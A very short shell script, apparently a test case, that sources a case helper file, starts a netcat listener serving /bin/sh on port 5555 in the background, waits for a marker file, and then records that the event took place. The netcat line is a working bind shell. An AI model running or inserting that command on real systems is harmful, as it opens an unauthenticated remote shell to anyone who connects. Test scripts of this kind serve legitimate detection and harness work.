#!/bin/sh
. /opt/case/case.sh

nc -l -p 5555 -e /bin/sh &
wait_for /tmp/reached
took_place
